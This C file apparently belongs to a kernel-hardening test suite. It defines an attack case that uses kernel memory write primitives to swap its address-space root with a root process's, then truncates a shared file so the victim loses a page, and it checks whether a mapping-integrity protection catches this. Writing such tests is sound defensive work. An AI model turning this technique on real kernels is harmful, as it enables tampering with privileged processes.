// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "shrink_other", "cred_integrity: an area is not as it was mapped",
       "The program maps a file where root's program has its memory, replaces the root in its own "
       "address space by that program's, and shortens the file: its pages leave all that map it.",
       "The sealed record of a mapping says in which page tables it is.",
       "A page of root's program is gone: it reads zeros where it has written.");

#define PAGE 4096

static volatile char memory[2 * PAGE] __attribute__((aligned(PAGE)));

static long map_file(void)
{
	const long file = call3(__NR_open, (long)"/tmp/short", O_CREAT | O_RDWR, 0644);

	call2(__NR_ftruncate, file, 2 * PAGE);
	if (call6(__NR_mmap, (long)memory, 2 * PAGE, PROT_READ | PROT_WRITE,
		  MAP_PRIVATE | MAP_FIXED, file, 0) != (long)memory)
		return -1;
	memory[0] = 'A';
	return file;
}

static bool control(void)
{
	return is_ordinary();
}

/* The victim has two seconds to miss the page. */
static bool is_missed(void)
{
	for (int i = 0; i < 200; i++) {
		if (call3(__NR_open, (long)"/tmp/missed", O_RDONLY, 0) >= 0)
			return true;
		sleep_milliseconds(10);
	}
	return false;
}

static bool fire(void)
{
	const uint64_t task = own_task(), other = own_root(victim_task(task));
	const uint64_t space_root =
		peek(task + member("task.space")) + member("address_space.root");
	const uint64_t own = peek(space_root);
	const long file = map_file();

	sleep_milliseconds(100); /* the victim has written */
	poke(space_root, other);
	call2(__NR_ftruncate, file, 0);
	poke(space_root, own);
	return is_missed();
}

static void victim(void)
{
	memory[0] = 'V';
	for (;;) {
		if (memory[0] != 'V') {
			call3(__NR_open, (long)"/tmp/missed", O_CREAT | O_RDWR, 0644);
			memory[0] = 'V';
		}
		sleep_milliseconds(5);
	}
}
